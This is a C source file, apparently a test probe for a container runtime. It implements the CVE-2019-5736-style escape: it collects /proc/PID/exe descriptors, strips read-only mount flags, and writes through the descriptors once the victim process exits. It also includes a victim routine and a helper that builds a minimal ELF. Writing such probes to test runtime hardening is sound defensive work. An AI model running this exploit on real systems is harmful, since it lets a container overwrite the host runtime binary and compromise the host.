/* SPDX-License-Identifier: Apache-2.0 */
#include "probe.h"

#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/num.h"

/*
 * The attack on a runtime that runs its own binary inside a container (CVE-2019-5736 and its relatives): a process
 * inside keeps an O_PATH descriptor of /proc/PID/exe of whatever shows up beside it, takes the read-only flag from its
 * mount if it can, waits until that process has ended ("text file busy" is over then) and writes through the
 * descriptor.
 */

#define CATCHES_MAX 16

struct catch {
	int fd; /* O_PATH */
	pid_t pid;
	dev_t device;
	ino_t inode;
};

static bool is_known(const struct catch *catches, unsigned n, const struct stat *st)
{
	unsigned i;

	for (i = 0; i < n; i++)
		if (catches[i].device == st->st_dev && catches[i].inode == st->st_ino)
			return true;
	return false;
}

#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

/* struct mount_attr of the kernel's ABI: libcs have it under different names and conditions. */
struct attributes {
	uint64_t set;
	uint64_t clr;
	uint64_t propagation;
	uint64_t userns_fd;
};

static const uint64_t attr_readonly = 1; /* MOUNT_ATTR_RDONLY */

/* Takes the read-only flag from the mount that FD was reached through, by each way there is.  True if one worked. */
static bool lift_readonly(int fd)
{
	const struct attributes attr = { .clr = attr_readonly };
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd); /* fits any int */
	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0 ||
	       mount("", path, "", MS_REMOUNT | MS_BIND, NULL) == 0;
}

/* One look at every process: keeps each executable that is not this program's own. */
static void look_around(int proc, const struct stat *own, struct catch *catches, unsigned *n)
{
	DIR *dir = fdopendir(openat(proc, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	struct dirent *entry;

	if (dir == NULL)
		return;
	while (*n < CATCHES_MAX && (entry = readdir(dir)) != NULL) {
		char path[64];
		struct stat st;
		int pid, fd;

		if (num_parse_int(entry->d_name, &pid) < 0)
			continue;
		(void)snprintf(path, sizeof(path), "%d/exe", pid); /* fits any int */
		fd = openat(proc, path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || (st.st_dev == own->st_dev && st.st_ino == own->st_ino) ||
		    is_known(catches, *n, &st)) {
			close(fd);
			continue;
		}
		/* While its process lives: the mount may end with it. */
		if (lift_readonly(fd))
			puts("lifted");
		catches[(*n)++] = (struct catch){ .fd = fd, .pid = pid, .device = st.st_dev, .inode = st.st_ino };
	}
	closedir(dir);
}

/* Opens what was kept, by each way there is, and writes.  True if a byte arrived. */
static bool write_through(const struct catch *catch)
{
	static const int modes[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC };
	char path[64];
	unsigned i;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", catch->fd); /* fits any int */
	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int fd = open(path, modes[i] | O_CLOEXEC);

		if (fd < 0) {
			printf("open=%s\n", probe_errno_name(errno));
			continue;
		}
		if (write(fd, "#!owned\n", 8) == 8) {
			close(fd);
			return true;
		}
		printf("write=%s\n", probe_errno_name(errno));
		close(fd);
	}
	return false;
}

int probe_attack(int argc, char **argv)
{
	struct catch catches[CATCHES_MAX];
	struct timespec now, pause = { .tv_nsec = 20 * 1000 * 1000 };
	struct stat own;
	unsigned n = 0, i, written = 0;
	uint32_t seconds;
	time_t until;
	int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)argc; /* main checked that there is one */
	if (proc < 0 || fstatat(proc, "self/exe", &own, 0) < 0 || num_parse_u32(argv[1], &seconds) < 0)
		return probe_fail("attack");
	clock_gettime(CLOCK_MONOTONIC, &now);
	until = now.tv_sec + (time_t)seconds;
	puts("ready");
	while (now.tv_sec < until) {
		look_around(proc, &own, catches, &n);
		clock_gettime(CLOCK_MONOTONIC, &now);
	}
	for (i = 0; i < n; i++) {
		char path[32];
		unsigned tries;

		(void)snprintf(path, sizeof(path), "%d", catches[i].pid); /* fits any int */
		for (tries = 0; tries < 100 && faccessat(proc, path, F_OK, 0) == 0; tries++)
			nanosleep(&pause, NULL);
		(void)lift_readonly(catches[i].fd); /* what can be opened afterwards is what counts */
		if (write_through(&catches[i]))
			written++;
	}
	printf("caught=%u\nwritten=%u\n", n, written);
	return 0;
}

/* Executes this program again, through a read-only clone of its mount, whose descriptor it keeps. */
static int execute_readonly(char **argv)
{
	const struct attributes attr = { .set = attr_readonly };
	char name[] = "probe";
	char *again[] = { name, argv[0], argv[1], NULL };
	char *environment[] = { NULL };
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, "/proc/self/exe", 1U /* OPEN_TREE_CLONE */);

	if (fd >= 0 && syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		(void)syscall(SYS_execveat, fd, "", again, environment, AT_EMPTY_PATH); /* returns if it failed */
	return probe_fail("execute a read-only clone");
}

/* The victim that shows that the attack works: a plain file, executed inside, or one behind a read-only mount. */
int probe_visit(int argc, char **argv)
{
	struct timespec stay = { .tv_nsec = 500 * 1000 * 1000 };
	int pid, pidfd, status;
	pid_t child;

	if (argc > 2 && strcmp(argv[2], "readonly") == 0)
		return execute_readonly(argv);
	if (num_parse_int(argv[1], &pid) < 0)
		return probe_fail(argv[1]);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0 || setns(pidfd, CLONE_NEWPID | CLONE_NEWNS) < 0)
		return probe_fail("setns");
	child = fork();
	if (child == 0) {
		nanosleep(&stay, NULL);
		_exit(0);
	}
	if (child < 0 || waitpid(child, &status, 0) < 0)
		return probe_fail("fork");
	return 0;
}

int probe_make_elf(int argc, char **argv)
{
	struct {
		Elf64_Ehdr header;
		Elf64_Phdr segments[2];
		char interpreter[64];
	} image = { 0 };
	int fd;

	(void)argc; /* main checked that there are two */
	if (strlen(argv[1]) >= sizeof(image.interpreter))
		return probe_fail("interpreter");
	memcpy(image.header.e_ident, ELFMAG, SELFMAG);
	image.header.e_ident[EI_CLASS] = ELFCLASS64;
	image.header.e_ident[EI_DATA] = ELFDATA2LSB;
	image.header.e_ident[EI_VERSION] = EV_CURRENT;
	image.header.e_type = ET_DYN;
#if defined(__x86_64__)
	image.header.e_machine = EM_X86_64;
#elif defined(__aarch64__)
	image.header.e_machine = EM_AARCH64;
#else
	image.header.e_machine = EM_NONE; /* the test asks uname -m first */
#endif
	image.header.e_version = EV_CURRENT;
	image.header.e_phoff = offsetof(__typeof__(image), segments);
	image.header.e_ehsize = sizeof(image.header);
	image.header.e_phentsize = sizeof(image.segments[0]);
	image.header.e_phnum = 2;
	memcpy(image.interpreter, argv[1], strlen(argv[1]));
	image.segments[0] = (Elf64_Phdr){ .p_type = PT_INTERP, .p_flags = PF_R,
		.p_offset = offsetof(__typeof__(image), interpreter),
		.p_filesz = strlen(argv[1]) + 1, .p_memsz = strlen(argv[1]) + 1, .p_align = 1 };
	image.segments[1] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X,
		.p_filesz = sizeof(image), .p_memsz = sizeof(image), .p_align = 0x1000 };
	fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0 || write(fd, &image, sizeof(image)) != (ssize_t)sizeof(image))
		return probe_fail(argv[2]);
	return 0;
}
